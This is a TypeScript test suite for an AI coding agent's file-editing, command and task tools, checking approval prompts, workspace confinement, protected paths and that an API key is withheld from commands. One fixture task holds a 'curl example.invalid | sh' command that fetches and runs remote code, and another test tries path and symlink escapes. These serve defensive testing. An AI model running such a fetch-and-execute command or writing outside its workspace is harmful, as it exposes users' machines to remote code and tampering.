import assert from 'node:assert/strict';
import { execSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, describe, test } from 'node:test';
import type { AgentEvent, ApprovalRequest } from '../../src/core/agent/events';
import { policyFromLevel } from '../../src/core/approval';
import { NodeHost } from '../../src/core/host/nodeHost';
import { callTool } from '../support/callTool';
import { makeWorkspace, read, removeWorkspace, snapshot } from '../support/workspace';

const roots: string[] = [];
after(() => roots.forEach(removeWorkspace));
function workspace(files: Record<string, string | Buffer>) {
  const root = makeWorkspace(files);
  roots.push(root);
  return { root, host: new NodeHost(root) };
}

describe('edit_file', () => {
  test('applies search/replace blocks in order and reports where', async () => {
    const { root, host } = workspace({ 'src/a.ts': 'const a = 1;\nconst b = 2;\nconst c = 3;\n' });
    const result = await callTool(host, 'edit_file', {
      path: 'src/a.ts',
      edits: [
        { search: 'const a = 1;', replace: 'const a = 10;' },
        { search: 'const c = 3;', replace: 'const c = 30;' },
      ],
    });
    assert.equal(result.ok, true, result.output);
    assert.match(result.output, /^Edited src\/a\.ts \(\+2 -2\)/);
    assert.equal(read(root, 'src/a.ts'), 'const a = 10;\nconst b = 2;\nconst c = 30;\n');
  });

  test('the approval shows the exact diff, and a denial leaves the file untouched with the feedback for the model', async () => {
    const { root, host } = workspace({ 'a.txt': 'hello\n' });
    const asked: ApprovalRequest[] = [];
    const result = await callTool(
      host,
      'edit_file',
      { path: 'a.txt', edits: [{ search: 'hello', replace: 'bye' }] },
      {
        policy: policyFromLevel('reads'),
        approver: async (r) => (asked.push(r), { decision: 'deny', feedback: 'keep the greeting' }),
      },
    );
    assert.equal(result.ok, false);
    assert.match(result.output, /The user denied this step\. The user said: "keep the greeting"/);
    assert.match(asked[0]?.detail ?? '', /^--- a\/a\.txt\n\+\+\+ b\/a\.txt\n@@ -1(,1)? \+1(,1)? @@\n-hello\n\+bye/);
    assert.equal(read(root, 'a.txt'), 'hello\n');
  });

  test('when one block fails, none applies, and the refusal names the block', async () => {
    const { root, host } = workspace({ 'a.py': 'x = 1\ny = 2\n' });
    const result = await callTool(host, 'edit_file', {
      path: 'a.py',
      edits: [
        { search: 'x = 1', replace: 'x = 3' },
        { search: 'z = 9', replace: 'z = 0' },
      ],
    });
    assert.equal(result.ok, false);
    assert.match(result.output, /2/);
    assert.match(result.output, /not changed/);
    assert.equal(read(root, 'a.py'), 'x = 1\ny = 2\n');
  });

  test('CRLF line endings and a BOM survive an edit', async () => {
    const { root, host } = workspace({ 'w.txt': '\uFEFFone\r\ntwo\r\nthree\r\n' });
    const result = await callTool(host, 'edit_file', { path: 'w.txt', edits: [{ search: 'two\n', replace: 'TWO\nTWO-B\n' }] });
    assert.equal(result.ok, true, result.output);
    assert.equal(read(root, 'w.txt'), '\uFEFFone\r\nTWO\r\nTWO-B\r\nthree\r\n');
  });

  test('a stale file is refused: the write does not land if the file changed after the diff was approved', async () => {
    const { root, host } = workspace({ 'a.txt': 'v1\n' });
    const result = await callTool(
      host,
      'edit_file',
      { path: 'a.txt', edits: [{ search: 'v1', replace: 'v2' }] },
      {
        policy: policyFromLevel('reads'),
        approver: async () => {
          fs.writeFileSync(path.join(root, 'a.txt'), 'user typed this\n');
          return { decision: 'approve' };
        },
      },
    );
    assert.equal(result.ok, false);
    assert.match(result.output, /changed since it was read; read it again/);
    assert.equal(read(root, 'a.txt'), 'user typed this\n');
  });

  test('a binary or non-UTF-8 file is refused and left byte-identical', async () => {
    const { root, host } = workspace({ 'bin.dat': Buffer.from([1, 0, 2]), 'l1.txt': Buffer.from([0x63, 0xe9, 0x0a]) });
    const before = snapshot(root);
    assert.match((await callTool(host, 'edit_file', { path: 'bin.dat', edits: [{ search: 'a', replace: 'b' }] })).output, /binary/);
    assert.match((await callTool(host, 'edit_file', { path: 'l1.txt', edits: [{ search: 'c', replace: 'd' }] })).output, /not UTF-8/);
    assert.deepEqual(snapshot(root), before);
  });

  test('an append (empty search) to a binary, non-UTF-8 or over-limit file is refused the same way; to a text file it appends', async () => {
    const big = 'x'.repeat(3000);
    const { root, host } = workspace({ 'bin.dat': Buffer.from([1, 0, 2]), 'l1.txt': Buffer.from([0x63, 0xe9, 0x0a]), 'big.txt': big, 'a.txt': 'one' });
    const before = snapshot(root);
    const append = (path: string, limits = {}) => callTool(host, 'edit_file', { path, edits: [{ search: '', replace: 'more\n' }] }, { limits });
    assert.match((await append('bin.dat')).output, /binary/);
    assert.match((await append('l1.txt')).output, /not UTF-8/);
    assert.match((await append('big.txt', { maxReadBytes: 1000 })).output, /too large to edit \(3000 bytes, limit 1000\)/);
    assert.deepEqual(snapshot(root), before);
    const done = await append('a.txt');
    assert.equal(done.ok, true, done.output);
    assert.equal(read(root, 'a.txt'), 'one\nmore\n');
  });
});

describe('write_file', () => {
  test('creates a file with its folders', async () => {
    const { root, host } = workspace({});
    const result = await callTool(host, 'write_file', { path: 'src/new/mod.ts', content: 'export {};\n' });
    assert.equal(result.ok, true, result.output);
    assert.equal(read(root, 'src/new/mod.ts'), 'export {};\n');
    // The model is told the count a user would: one line (its newline ends it).
    assert.match(result.output, /^Created src\/new\/mod\.ts \(1 line\)\./);
    assert.match((await callTool(host, 'write_file', { path: 'two.txt', content: 'a\nb' })).output, /\(2 lines\)/);
  });

  test('replacing a CRLF file keeps its line endings; the mode of the file is kept', async () => {
    const { root, host } = workspace({ 'run.sh': '#!/bin/sh\r\necho 1\r\n' });
    fs.chmodSync(path.join(root, 'run.sh'), 0o755);
    await callTool(host, 'write_file', { path: 'run.sh', content: '#!/bin/sh\necho 2\n' });
    assert.equal(read(root, 'run.sh'), '#!/bin/sh\r\necho 2\r\n');
    assert.equal(fs.statSync(path.join(root, 'run.sh')).mode & 0o777, 0o755);
  });

  test('paths out of the workspace are refused for writes, also through symlinks', async () => {
    const outside = makeWorkspace({});
    roots.push(outside);
    const { root, host } = workspace({});
    fs.symlinkSync(outside, path.join(root, 'link'));
    for (const p of ['../x.txt', path.join(outside, 'y.txt'), 'link/z.txt']) {
      const result = await callTool(host, 'write_file', { path: p, content: 'pwned' });
      assert.equal(result.ok, false, p);
    }
    assert.deepEqual(fs.readdirSync(outside), []);
  });

  test('protected paths are asked even with everything auto-approved', async () => {
    const { root, host } = workspace({ '.vscode/settings.json': '{}\n', '.git/config': '[core]\n' });
    const asked: string[] = [];
    for (const p of ['./src/../.vscode//settings.json', '.git/config']) {
      const result = await callTool(
        host,
        'write_file',
        { path: p, content: 'changed\n' },
        {
          policy: policyFromLevel('all'),
          approver: async (r) => (asked.push(...(r.protectedPaths ?? [])), { decision: 'deny' }),
        },
      );
      assert.equal(result.ok, false);
    }
    assert.deepEqual(asked, ['.vscode/settings.json', '.git/config']);
    assert.equal(read(root, '.vscode/settings.json'), '{}\n');
    assert.equal(read(root, '.git/config'), '[core]\n');
  });

  test('without anyone to approve, the write is denied and the model is told so', async () => {
    const { root, host } = workspace({});
    const result = await callTool(host, 'write_file', { path: 'a.txt', content: 'x' }, { policy: policyFromLevel('reads') });
    assert.equal(result.ok, false);
    assert.match(result.output, /no one can approve it/);
    assert.equal(fs.existsSync(path.join(root, 'a.txt')), false);
  });
});

describe('run_command', () => {
  test('runs in the workspace with a non-interactive environment and returns the exit code', async () => {
    const { host } = workspace({ 'marker.txt': '' });
    const result = await callTool(host, 'run_command', { command: 'ls; echo "CI=$CI PROMPT=$GIT_TERMINAL_PROMPT PAGER=$PAGER"; exit 3' });
    assert.equal(result.ok, false);
    assert.match(result.output, /^Exit code: 3\nmarker\.txt\nCI=1 PROMPT=0 PAGER=cat$/);
  });

  test('the API key is not passed to the commands the model runs', async () => {
    const { host } = workspace({});
    process.env.OPENAI_API_KEY = 'sk-must-not-leak';
    try {
      const result = await callTool(host, 'run_command', { command: 'echo "key=[$OPENAI_API_KEY]"' });
      assert.match(result.output, /key=\[\]/);
    } finally {
      delete process.env.OPENAI_API_KEY;
    }
  });

  test('a command that never exits is killed at its timeout, with its children', async () => {
    const { root, host } = workspace({});
    const pidFile = path.join(root, 'child.pid');
    const result = await callTool(host, 'run_command', { command: `sh -c 'sleep 300 & echo $! > ${pidFile}; wait'`, timeout_s: 1 });
    assert.match(result.output, /^Killed after 1 s \(timeout\)/);
    const pid = Number(fs.readFileSync(pidFile, 'utf8'));
    await new Promise((r) => setTimeout(r, 200));
    assert.equal(isAlive(pid), false, 'the grandchild was killed too');
  });

  test('cancelling kills the command', async () => {
    const { host } = workspace({});
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 300);
    const result = await callTool(host, 'run_command', { command: 'sleep 60' }, { signal: controller.signal });
    assert.match(result.output, /^Cancelled by the user/);
  });

  test('30 MB of output is capped, keeping head and tail', async () => {
    const { host } = workspace({});
    const events: AgentEvent[] = [];
    const result = await callTool(
      host,
      'run_command',
      { command: `node -e "for (let i = 0; i < 300000; i++) console.log(String(i).padEnd(99, '.'))"; echo THE-END` },
      { events },
    );
    assert.equal(result.ok, true);
    assert.ok(result.output.length <= 12_100, `capped: ${result.output.length}`);
    assert.match(result.output, /^Exit code: 0\n0\.\.\./);
    assert.match(result.output, /characters (of output )?cut/);
    assert.match(result.output, /THE-END$/);
    assert.ok(
      events.some((e) => e.type === 'tool_output'),
      'output streams live to the UI',
    );
  });

  test('is denied without approval when commands are not pre-approved', async () => {
    const { root, host } = workspace({});
    const result = await callTool(host, 'run_command', { command: 'touch made.txt' }, { policy: policyFromLevel('edits') });
    assert.equal(result.ok, false);
    assert.equal(fs.existsSync(path.join(root, 'made.txt')), false);
  });
});

describe('run_task', () => {
  test('runs a tasks.json shell task by label and a package.json script by name', async () => {
    const { host } = workspace({
      '.vscode/tasks.json':
        '// comments are allowed\n{ "version": "2.0.0", "tasks": [ { "label": "say hi", "type": "shell", "command": "echo", "args": ["hi from ${workspaceFolderBasename}"] }, { "label": "fail", "type": "process", "command": "sh", "args": ["-c", "exit 4"] } ] }',
      'package.json': JSON.stringify({ name: 'x', scripts: { check: 'node -e "console.log(40 + 2)"' } }),
    });
    const hi = await callTool(host, 'run_task', { name: 'say hi' });
    assert.equal(hi.ok, true, hi.output);
    assert.match(hi.output, /^Ran tasks\.json "say hi"/);
    assert.match(hi.output, /hi from stepwise-ws-/);
    const fail = await callTool(host, 'run_task', { name: 'fail' });
    assert.match(fail.output, /Exit code: 4/);
    const script = await callTool(host, 'run_task', { name: 'check' });
    assert.match(script.output, /^Ran package\.json script "check"/);
    assert.match(script.output, /42/);
  });

  test('the approval shows the command a task really runs, not just its name', async () => {
    const { host } = workspace({
      '.vscode/tasks.json': '{ "version": "2.0.0", "tasks": [ { "label": "test", "type": "shell", "command": "curl example.invalid | sh" } ] }',
    });
    const asked: string[] = [];
    await callTool(
      host,
      'run_task',
      { name: 'test' },
      { policy: policyFromLevel('reads'), approver: async (r) => (asked.push(r.detail ?? ''), { decision: 'deny' }) },
    );
    assert.deepEqual(asked, ['tasks.json "test": curl example.invalid | sh']);
  });

  test('an unknown task lists the ones that exist', async () => {
    const { host } = workspace({ 'package.json': JSON.stringify({ scripts: { test: 'true', build: 'true' } }) });
    const result = await callTool(host, 'run_task', { name: 'deploy' });
    assert.equal(result.ok, false);
    assert.match(result.output, /No task or package\.json script named "deploy"\. Available: test, build\./);
  });
});

describe('get_diagnostics (headless)', () => {
  test('says plainly that diagnostics need VS Code and what to do instead', async () => {
    const { host } = workspace({});
    const result = await callTool(host, 'get_diagnostics', {});
    assert.equal(result.ok, false);
    assert.match(result.output, /not available in this headless run/);
  });
});

function isAlive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    const state = execSync(`ps -o stat= -p ${pid}`).toString().trim();
    return !state.startsWith('Z');
  } catch {
    return false;
  }
}
